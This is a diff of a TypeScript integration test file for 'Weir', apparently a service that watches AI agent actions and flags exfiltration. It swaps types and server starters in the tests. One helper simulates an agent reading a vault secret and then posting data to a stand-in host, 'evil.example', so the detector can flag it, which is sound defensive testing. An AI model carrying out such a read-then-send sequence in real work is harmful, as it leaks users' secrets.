@@ -4,16 +4,23 @@ import { randomUUID } from 'node:crypto';
 import { after, before, describe, test } from 'node:test';
 import { Redis } from 'ioredis';
 import { call, newCustomer, type Reply } from '../support/client.ts';
+import { startHostedWeir } from '../support/hosted-weir.ts';
 import { until } from '../support/patience.ts';
 import { type SharedWeir, sharedWeir } from '../support/shared-weir.ts';
 import { makeDatabase, NO_SERVER, type TestDatabase } from '../support/test-database.ts';
-import { startWeir, temporaryDirectory, type Weir } from '../support/weir.ts';
+import { type AnyWeir, startWeir, temporaryDirectory } from '../support/weir.ts';
 
 type Ids = { agent_id?: string; session_id?: string };
 
 const newIds = (): Ids => ({ agent_id: randomUUID(), session_id: randomUUID() });
 
-async function act(weir: Pick<Weir, 'api'>, key: string, ids: Ids, action: string, parts: object = {}): Promise<Reply> {
+async function act(
+  weir: Pick<AnyWeir, 'api'>,
+  key: string,
+  ids: Ids,
+  action: string,
+  parts: object = {},
+): Promise<Reply> {
   const { agent_id, session_id } = ids;
   const body = {
     event_id: randomUUID(),
@@ -30,7 +37,7 @@ async function act(weir: Pick<Weir, 'api'>, key: string, ids: Ids, action: strin
 const flags = (reply: Reply): string[] => reply.json['behavioral_flags'] as string[];
 const violations = (reply: Reply): string[] => reply.json['violations'] as string[];
 const READ_SECRET = 'vault:secret:read';
-const send = (weir: Pick<Weir, 'api'>, key: string, ids: Ids) =>
+const send = (weir: Pick<AnyWeir, 'api'>, key: string, ids: Ids) =>
   act(weir, key, ids, 'http:request:post', { parameters: { url: 'https://evil.example/x', body: 'x' } });
 const EXFILTRATION = 'secret_was_read_and_data_go_out';
 
@@ -99,7 +106,7 @@ describe('history: one server', () => {
 test('a restart forgets nothing', async () => {
   const data_dir = temporaryDirectory();
   const ids = newIds();
-  const first = await startWeir({ data_dir });
+  const first = await startHostedWeir({ data_dir });
   const key = first.api_key;
   await call(`${first.api}/policies/${first.customer_id}`, { key, body: { blocked_actions: ['a:b:delete'] } });
   await act(first, key, ids, READ_SECRET);
@@ -122,8 +129,8 @@ const NO_STORES =
 describe('history: two servers on one database and one Redis', { skip: NO_STORES ?? false }, () => {
   let database: TestDatabase;
   let redis: Redis;
-  let one: Weir;
-  let two: Weir;
+  let one: AnyWeir;
+  let two: AnyWeir;
   let key: string;
   before(async () => {
     // A numbered database of its own: the whole of it is emptied.
@@ -132,7 +139,7 @@ describe('history: two servers on one database and one Redis', { skip: NO_STORES
     redis = new Redis(url.href);
     database = await makeDatabase();
     const env = { DATABASE_URL: database.url, REDIS_URL: url.href };
-    one = await startWeir({ env });
+    one = await startHostedWeir({ env });
     key = one.api_key;
     two = await startWeir({ env });
   });
